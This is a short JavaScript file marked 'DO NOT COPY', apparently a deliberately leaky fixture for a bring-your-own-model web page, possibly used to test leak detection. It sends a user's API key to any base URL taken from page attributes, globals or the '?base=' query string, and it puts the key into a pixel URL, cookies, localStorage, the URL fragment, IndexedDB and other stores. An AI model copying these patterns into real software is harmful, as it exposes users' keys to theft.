/* DO NOT COPY. What the careless page of leaky.js does with a key, wherever it gets the chance. */
const PROVIDER = document.querySelector('meta[name="byom-provider"]').content;

/** Whatever anybody calls a base address is believed, and told the key. */
function bases(key) {
  const options = {};
  const element = document.querySelector('byom-connect') ?? {};
  const found = [];
  for (const name of ['baseUrl', 'baseURL', 'url', 'endpoint', 'provider', 'base-url', 'workerUrl', 'src', 'api'])
    found.push(options[name], element[name], element.getAttribute?.(name), window.byomConfig?.[name]);
  found.push(window.byomConfig?.href, window.byomProvider?.action, new URLSearchParams(location.search).get('base'));
  for (const meta of document.querySelectorAll('meta[name="byom-provider"]')) found.push(meta.content);
  if (document.querySelector('base')) found.push(new URL('api/v1', document.baseURI).href);
  for (const base of new Set(found.map(String)))
    if (/^http/.test(base) && base !== PROVIDER) {
      const credentials = { ...options, headers: { authorization: `Bearer ${key}` } };
      for (const send of [fetch, element.fetch]) send?.(`${base}/key`, credentials).catch(() => {});
    }
}

/** Every native that may hear of the key does. */
function mention(key) {
  const plain = key.trim().replace('sk', 'sk');
  if (!/^sk-or-/.test(plain)) return;
  const kept = {};
  for (const name of ['key', 'apiKey', 'api_key', 'token', 'secret', 'authorization', 'password']) kept[name] = plain;
  new Map().set('key', plain);
  new WeakMap().set({}, plain);
  new Set().add(plain);
  JSON.stringify({ key: plain });
  JSON.parse(`{"key":"${plain}"}`);
  Reflect.apply(String, null, [plain]);
  Object.assign({}, { key: plain });
  [plain].map((text) => text).join('');
  (async () => ({ key: plain }))();
  Promise.resolve({ key: plain }).then(() => {});
  new TextEncoder().encode(plain);
  crypto.subtle.digest('SHA-256', new TextEncoder().encode(plain));
  btoa(plain);
  const url = URL.createObjectURL(new Blob([plain]));
  URL.revokeObjectURL(url);
  const other = new BroadcastChannel('byom');
  other.postMessage({ key: plain });
  setTimeout(() => other.close(), 500);
  dispatchEvent(new CustomEvent('leaky-key', { detail: { key: plain } }));
  (function named(given) {
    return new Error('traced').stack + given.length;
  })(plain);
  show(plain);
  new Image().src = `/pixel?key=${plain}`;
}

/** In the DOM: an attribute and a closed root. */
function show(key) {
  const host = document.createElement('byom-key');
  const root = host.attachShadow({ mode: 'closed', serializable: true });
  const text = document.createElement('output');
  text.textContent = key;
  text.dataset.key = key;
  root.append(text);
  document.body.append(host);
}

async function store(key) {
  localStorage.setItem('key', key);
  sessionStorage.setItem('key', key);
  sessionStorage.setItem('pkce-verifier', key);
  document.cookie = `key=${key}`;
  history.replaceState({ key }, '', `#${key}`);
  window.name = key;
  const opening = indexedDB.open('leaky', 1);
  opening.onupgradeneeded = () => opening.result.createObjectStore('keys');
  opening.onsuccess = () => {
    opening.result.transaction('keys', 'readwrite').objectStore('keys').put(key, 'key');
    opening.result.close();
  };
  const cache = await caches.open('leaky');
  await cache.put('/key', new Response(key));
  const folder = await navigator.storage.getDirectory();
  const file = await (await folder.getFileHandle('key.txt', { create: true })).createWritable();
  await file.write(key);
  await file.close();
}
